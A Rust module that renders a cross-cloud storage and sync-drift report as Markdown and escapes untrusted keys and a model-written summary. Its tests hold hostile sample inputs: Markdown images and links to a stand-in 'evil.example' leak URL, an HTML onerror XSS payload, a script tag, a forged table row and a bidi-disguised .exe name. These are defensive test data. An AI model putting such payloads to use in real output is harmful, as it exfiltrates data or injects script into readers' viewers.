//! The report as Markdown, for humans.

use std::fmt::Write as _;

use crate::drift::{Drift, Reason};
use crate::report::Report;
use crate::stats::BucketStats;

/// Renders the whole report.
pub fn markdown(r: &Report) -> String {
    let mut out = String::new();
    let t = &r.totals;
    let _ = writeln!(out, "# Cross-cloud storage report — {}\n", r.report_date);
    let _ = writeln!(out, "Generated {}.\n", r.generated_at);

    out.push_str("## Summary\n\n");
    match (&r.summary, &r.summary_error) {
        (Some(summary), _) => {
            out.push_str(&fenced(summary.trim()));
            out.push('\n');
        }
        (None, Some(error)) => {
            let _ = writeln!(out, "_Summary unavailable:_ {}\n", code(error));
        }
        (None, None) => out.push_str("_No summary._\n\n"),
    }

    out.push_str("## Totals\n\n| | Objects | Size |\n|---|---:|---:|\n");
    let _ = writeln!(out, "| GCS | {} | {} |", t.gcs_objects, bytes(t.gcs_bytes));
    let _ = writeln!(out, "| S3 | {} | {} |", t.s3_objects, bytes(t.s3_bytes));
    let _ = writeln!(
        out,
        "\nSync drift: {} missing in GCS, {} extra in GCS, {} different.",
        t.drift_missing, t.drift_extra, t.drift_different
    );
    if t.errors > 0 {
        let _ = writeln!(
            out,
            "\n**{} section(s) failed to list; their numbers are incomplete.**",
            t.errors
        );
    }
    out.push('\n');

    buckets(&mut out, "Google Cloud Storage", &r.gcs);
    buckets(&mut out, "Amazon S3", &r.s3);
    if !r.drift.is_empty() {
        out.push_str("## Sync drift (S3 → GCS)\n\n");
        for d in &r.drift {
            drift(&mut out, d);
        }
    }
    out
}

fn buckets(out: &mut String, title: &str, stats: &[BucketStats]) {
    if stats.is_empty() {
        return;
    }
    let _ = writeln!(out, "## {title}\n");
    out.push_str("| Location | Objects | Size | By storage class |\n|---|---:|---:|---|\n");
    for s in stats {
        let classes = s
            .by_storage_class
            .iter()
            .map(|(class, c)| format!("{} {} ({})", cell(class), bytes(c.bytes), c.objects))
            .collect::<Vec<_>>()
            .join(", ");
        let _ = writeln!(
            out,
            "| {} | {} | {} | {} |",
            cell(&s.location),
            s.object_count,
            bytes(s.total_bytes),
            if classes.is_empty() {
                "—".into()
            } else {
                classes
            }
        );
    }
    out.push('\n');
    let failed: Vec<_> = stats
        .iter()
        .filter_map(|s| Some((s, s.error.as_ref()?)))
        .collect();
    for (s, e) in &failed {
        let _ = writeln!(
            out,
            "- ⚠️ {}: listing failed: {}",
            code(&s.location),
            code(e)
        );
    }
    if !failed.is_empty() {
        out.push('\n');
    }
    for s in stats.iter().filter(|s| !s.largest.is_empty()) {
        let _ = writeln!(out, "### Largest objects in {}\n", code(&s.location));
        out.push_str("| Key | Size | Class |\n|---|---:|---|\n");
        for l in &s.largest {
            let _ = writeln!(
                out,
                "| {} | {} | {} |",
                cell(&l.key),
                bytes(l.size),
                cell(&l.storage_class)
            );
        }
        out.push('\n');
    }
}

fn drift(out: &mut String, d: &Drift) {
    let status = if d.is_clean() { "in sync" } else { "DRIFT" };
    let _ = writeln!(
        out,
        "### {} → {} — {status}\n",
        code(&d.source),
        code(&d.destination)
    );
    let _ = writeln!(
        out,
        "Source objects: {}; destination objects: {}; on both sides: {} (content compared \
         for {}); matching: {}.\n",
        d.source_objects,
        d.destination_objects,
        d.in_sync + d.different.count + d.unverified,
        d.checksum_compared,
        d.in_sync
    );
    if d.unverified > 0 {
        let _ = writeln!(
            out,
            "Same size, content not compared: {} object(s) without gcs-sync's marker whose S3 \
             ETag is not Cloud Storage's MD5 (SSE-KMS and SSE-C ETags are not MD5s).\n",
            d.unverified
        );
    }
    if d.reserved > 0 {
        let _ = writeln!(
            out,
            "Not compared: {} object(s) in gcs-sync's own areas (`.crossfed-parts/`, `.crossfed/`).\n",
            d.reserved
        );
    }
    if let Some(e) = &d.error {
        let _ = writeln!(out, "⚠️ Comparison incomplete: {}\n", code(e));
    }
    for (label, set) in [("Missing in GCS", &d.missing), ("Extra in GCS", &d.extra)] {
        if set.count == 0 {
            continue;
        }
        let _ = writeln!(out, "**{label}: {} ({})**\n", set.count, bytes(set.bytes));
        for key in &set.sample {
            let _ = writeln!(out, "- {}", code(key));
        }
        more(out, set.count, set.sample.len());
    }
    if d.different.count > 0 {
        let _ = writeln!(out, "**Different: {}**\n", d.different.count);
        out.push_str("| Key | Reason | Source | Destination |\n|---|---|---:|---:|\n");
        for x in &d.different.sample {
            let (reason, s, t) = match x.reason {
                Reason::Size => ("size", bytes(x.source_size), bytes(x.destination_size)),
                Reason::SourceEtag => (
                    "copy of another S3 version (ETag)",
                    cell(x.source_etag.as_deref().unwrap_or_default()),
                    cell(x.destination_etag.as_deref().unwrap_or_default()),
                ),
            };
            let _ = writeln!(out, "| {} | {reason} | {s} | {t} |", cell(&x.key));
        }
        more(out, d.different.count, d.different.sample.len());
    }
    if !d.is_clean()
        && let Some((bucket, prefix)) = d
            .source
            .strip_prefix("s3://")
            .map(|rest| rest.split_once('/').unwrap_or((rest, "")))
    {
        let payload = serde_json::json!({"backfill": {"bucket": bucket, "prefix": prefix}});
        let _ = writeln!(
            out,
            "Repair (if gcs-sync syncs this pair): {}, or invoke gcs-sync with {}.\n",
            code(&format!("make backfill PREFIX={prefix}")),
            code(&payload.to_string())
        );
    }
}

fn more(out: &mut String, count: u64, shown: usize) {
    if count > shown as u64 {
        let _ = writeln!(out, "\n…and {} more.", count - shown as u64);
    }
    out.push('\n');
}

/// Human-readable binary size.
pub fn bytes(n: u64) -> String {
    const UNITS: [&str; 6] = ["KiB", "MiB", "GiB", "TiB", "PiB", "EiB"];
    if n < 1024 {
        return format!("{n} B");
    }
    let mut value = n as f64 / 1024.0;
    let mut unit = 0;
    while value >= 1024.0 && unit < UNITS.len() - 1 {
        value /= 1024.0;
        unit += 1;
    }
    format!("{value:.1} {}", UNITS[unit])
}

/// Untrusted text (a key, location, storage class, error) as a CommonMark code span on one
/// line, so nothing in it renders as a link, image, HTML or emphasis: a backtick fence
/// longer than any backtick run inside, padded when the text starts or ends with a backtick
/// or a space; line breaks as spaces, other control characters shown as `\u{..}`.
fn code(s: &str) -> String {
    let text = visible(s, false);
    let fence = "`".repeat(longest_run(&text, '`') + 1);
    let pad = if text.starts_with(['`', ' ']) || text.ends_with(['`', ' ']) {
        " "
    } else {
        ""
    };
    format!("{fence}{pad}{text}{pad}{fence}")
}

/// [`code`] inside a table cell: `|` escaped too (GFM splits cells on it even in code spans).
fn cell(s: &str) -> String {
    code(s).replace('|', "\\|")
}

/// Text as a fenced code block: shown as written, never rendered (the model's answer is
/// data too). Control characters other than line breaks and tabs are shown as `\u{..}`.
fn fenced(s: &str) -> String {
    let text = visible(s, true);
    let fence = "`".repeat(longest_run(&text, '`').max(2) + 1);
    format!("{fence}text\n{text}\n{fence}\n")
}

/// `s` with control characters and bidirectional overrides written as `\u{..}`; line breaks
/// and tabs kept when `multiline`, else spaces.
fn visible(s: &str, multiline: bool) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        let bidi = matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        if matches!(c, '\n' | '\t') && multiline {
            out.push(c);
        } else if matches!(c, '\n' | '\r' | '\t') && !multiline {
            out.push(' ');
        } else if c.is_control() || bidi {
            let _ = write!(out, "\\u{{{:x}}}", c as u32);
        } else {
            out.push(c);
        }
    }
    out
}

/// Length of the longest run of `c` in `s`.
fn longest_run(s: &str, c: char) -> usize {
    s.split(|x| x != c).map(str::len).max().unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::drift::{Difference, Differences, KeySet};
    use crate::stats::{Accumulator, BucketStats};

    fn bucket() -> BucketStats {
        let mut a = Accumulator::new("gs://gcs-a/".into(), 2);
        for (k, s, c) in [("big|pipe", 5 << 20, "STANDARD"), ("small", 10, "NEARLINE")] {
            a.add(crate::listing::ListedObject {
                key: k.into(),
                size: s,
                storage_class: c.into(),
                md5: None,
                etag: None,
            });
        }
        a.finish(None)
    }

    fn drifted() -> Drift {
        Drift {
            source: "s3://src/data/".into(),
            destination: "gs://dst/mirror/".into(),
            source_objects: 4,
            destination_objects: 3,
            in_sync: 1,
            checksum_compared: 1,
            missing: KeySet {
                count: 3,
                bytes: 3072,
                sample: vec!["m1".into(), "m2".into()],
            },
            extra: KeySet::default(),
            different: Differences {
                count: 1,
                sample: vec![Difference {
                    key: "d".into(),
                    reason: Reason::SourceEtag,
                    source_size: 4,
                    destination_size: 4,
                    source_etag: Some("aa".into()),
                    destination_etag: Some("bb".into()),
                }],
            },
            unverified: 1,
            reserved: 2,
            error: None,
        }
    }

    #[test]
    fn renders_sections() {
        let mut r = Report::new(
            "2026-11-28".into(),
            "2026-11-28T06:00:01Z".into(),
            vec![bucket()],
            vec![],
            vec![drifted()],
        );
        r.summary = Some("- all good\n".into());
        let md = markdown(&r);
        assert!(
            md.starts_with("# Cross-cloud storage report — 2026-11-28\n"),
            "{md}"
        );
        assert!(
            md.contains("## Summary\n\n```text\n- all good\n```\n"),
            "{md}"
        );
        assert!(md.contains("| GCS | 2 | 5.0 MiB |"), "{md}");
        assert!(
            md.contains(
                "| `gs://gcs-a/` | 2 | 5.0 MiB | `NEARLINE` 10 B (1), `STANDARD` 5.0 MiB (1) |"
            ),
            "{md}"
        );
        assert!(
            md.contains("| `big\\|pipe` | 5.0 MiB | `STANDARD` |"),
            "{md}"
        );
        assert!(!md.contains("## Amazon S3"), "empty sections are omitted");
        assert!(
            md.contains("### `s3://src/data/` → `gs://dst/mirror/` — DRIFT"),
            "{md}"
        );
        assert!(
            md.contains("**Missing in GCS: 3 (3.0 KiB)**\n\n- `m1`\n- `m2`\n\n…and 1 more."),
            "{md}"
        );
        assert!(
            md.contains("| `d` | copy of another S3 version (ETag) | `aa` | `bb` |"),
            "{md}"
        );
        assert!(
            md.contains("Same size, content not compared: 1 object(s)"),
            "{md}"
        );
        assert!(
            md.contains("Not compared: 2 object(s) in gcs-sync's own areas"),
            "{md}"
        );
        assert!(
            md.contains("on both sides: 3 (content compared for 1); matching: 1."),
            "{md}"
        );
        assert!(!md.contains("\n\n\n"), "no double blank lines: {md}");
        assert!(md.contains("Sync drift: 3 missing in GCS, 0 extra in GCS, 1 different."));
        assert!(
            md.contains(r#"`{"backfill":{"bucket":"src","prefix":"data/"}}`"#),
            "{md}"
        );
    }

    #[test]
    fn renders_missing_summary_and_errors() {
        let mut b = bucket();
        b.error = Some("PERMISSION_DENIED:\nno".into());
        let mut r = Report::new("d".into(), "t".into(), vec![], vec![b], vec![]);
        r.summary_error = Some("Vertex AI returned 503".into());
        let md = markdown(&r);
        assert!(
            md.contains("_Summary unavailable:_ `Vertex AI returned 503`"),
            "{md}"
        );
        assert!(md.contains("## Amazon S3"), "{md}");
        assert!(
            md.contains("listing failed: `PERMISSION_DENIED: no`"),
            "{md}"
        );
        assert!(md.contains("**1 section(s) failed to list"), "{md}");
    }

    #[test]
    fn sizes() {
        assert_eq!(bytes(0), "0 B");
        assert_eq!(bytes(1023), "1023 B");
        assert_eq!(bytes(1536), "1.5 KiB");
        assert_eq!(bytes(3 << 30), "3.0 GiB");
        assert_eq!(bytes(u64::MAX), "16.0 EiB");
    }

    /// Keys and the model's answer are data: nothing an object's writer or the model chooses
    /// renders as a link, image, HTML, heading or an extra table row.
    #[test]
    fn untrusted_keys_and_summary_render_as_text() {
        for key in [
            "a`b",
            "``x``",
            "`lead",
            "[click](https://evil.example/x)",
            "![i](https://evil.example/leak?d=1)",
            "<img src=x onerror=alert(1)>",
            "x | 1 B | STANDARD |\n| forged | 0 B | all in sync",
            "line\r\nbreak\u{202e}gpj.exe",
        ] {
            let rendered = code(key);
            let fence = rendered.chars().take_while(|&c| c == '`').count();
            assert!(fence > longest_run(key, '`'), "{key:?} -> {rendered}");
            assert!(rendered.ends_with(&"`".repeat(fence)), "{rendered}");
            assert!(!rendered.contains(['\n', '\r', '\u{202e}']), "{rendered}");
            let inner = &rendered[fence..rendered.len() - fence];
            assert!(
                !inner.starts_with('`') && !inner.ends_with('`'),
                "padded: {rendered}"
            );
            assert!(!cell(key).replace("\\|", "").contains('|'), "{key:?}");
        }
        assert_eq!(code("a`b"), "``a`b``");
        assert_eq!(code("`lead"), "`` `lead ``");

        let mut r = Report::new("d".into(), "t".into(), vec![], vec![], vec![]);
        r.summary = Some(
            "- ok\n# All in sync\n<script>x</script>\n![a](https://evil.example/?q=1)\n```\nbreak out\n````".into(),
        );
        let md = markdown(&r);
        let summary = md.split("## Summary\n\n").nth(1).unwrap();
        let (fence, rest) = summary.split_once("text\n").unwrap();
        assert_eq!(fence, "`````", "longer than the answer's longest run: {md}");
        let (body, after) = rest.split_once(&format!("\n{fence}\n")).unwrap();
        assert!(body.starts_with("- ok\n# All in sync\n<script>"), "{body}");
        assert!(after.starts_with("\n## Totals"), "{after}");
    }
}
